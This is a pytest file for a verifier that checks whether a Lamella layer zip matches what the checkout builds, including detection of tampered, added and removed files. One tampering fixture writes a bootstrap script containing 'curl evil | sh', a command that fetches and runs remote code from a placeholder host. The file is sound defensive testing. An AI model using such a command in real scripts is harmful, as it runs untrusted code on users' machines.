"""`make verify ZIP=...`: is this zip what this checkout builds?"""

from __future__ import annotations

import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest

from layer import archive, build, pythons, verify
from tests.publish.conftest import Ran

Verify = Callable[[Path], Ran]


@pytest.fixture(autouse=True)
def one_python(monkeypatch: pytest.MonkeyPatch) -> None:
    """Build with one Python only: it is a third of the work."""
    newest = pythons.find()[-1]
    monkeypatch.setattr(pythons, "find", lambda: [newest])


@pytest.fixture
def layer_zip(tmp_path: Path) -> Path:
    """A layer, built from this tree."""
    path = tmp_path / "layer.zip"
    archive.write(build.content(build.ROOT, pythons.find()), path)
    return path


@pytest.fixture
def run(capfd: pytest.CaptureFixture[str]) -> Verify:
    """Runs the command on a zip."""
    return lambda path: Ran(verify.main([str(path)]), *capfd.readouterr())


def edit(path: Path, changes: dict[str, bytes | None]) -> None:
    """Write the zip anew with `changes`; None removes a file."""
    with zipfile.ZipFile(path) as opened:
        files: dict[str, bytes | None] = {name: opened.read(name) for name in opened.namelist()}
    files |= changes
    archive.write({name: data for name, data in files.items() if data is not None}, path)


def test_what_this_checkout_builds_is_verified(run: Verify, layer_zip: Path) -> None:
    status, output, _ = run(layer_zip)
    digests = [line.split()[1] for line in output.splitlines()[:2]]
    assert (status, digests[0]) == (0, digests[1])
    assert "files, byte for byte\n" in output


def test_another_packing_of_the_same_files_is_verified(run: Verify, layer_zip: Path) -> None:
    """zlib's successors compress to other bytes."""
    with zipfile.ZipFile(layer_zip) as opened:
        entries = [(entry, opened.read(entry)) for entry in opened.infolist()]
    with zipfile.ZipFile(layer_zip, "w") as opened:
        for entry, data in entries:
            opened.writestr(entry, data, zipfile.ZIP_STORED)
    status, output, _ = run(layer_zip)
    assert status == 0
    assert "files, file by file; only the packing differs" in output


def test_files_that_were_changed_added_and_lost(run: Verify, layer_zip: Path) -> None:
    changes = {"bootstrap": b"#!/bin/sh\ncurl evil | sh\n", "python/sitecustomize.py": b"evil"}
    edit(layer_zip, {**changes, "python/lamella/types.py": None})
    status, output, _ = run(layer_zip)
    assert status == 1
    assert "differs  3 of " in output
    assert (
        "  bootstrap, python/lamella/types.py\n"
        "      is not what the zip's own manifest says: it was changed or lost after the build\n"
        "  python/sitecustomize.py\n"
        "      is not in the zip's own manifest: it was added after the build, as a signature is\n"
    ) in output


def test_a_layer_of_another_version_names_the_tag(run: Verify, layer_zip: Path) -> None:
    with zipfile.ZipFile(layer_zip) as opened:
        manifest = opened.read("lamella/manifest.json").decode()
    version = build.version(build.ROOT)
    other = manifest.replace(f'"version": "{version}"', '"version": "99.1.2"')
    edit(layer_zip, {"lamella/manifest.json": other.encode()})
    status, output, _ = run(layer_zip)
    assert status == 1
    assert (
        f"the zip is Lamella 99.1.2, this checkout {version}: check out the tag v99.1.2" in output
    )


def test_a_file_that_is_no_layer(run: Verify, tmp_path: Path) -> None:
    status, output, errors = run(tmp_path / "none.zip")
    assert (status, output) == (1, "")
    assert errors.startswith(f"{tmp_path / 'none.zip'} is no zip file that can be read: ")
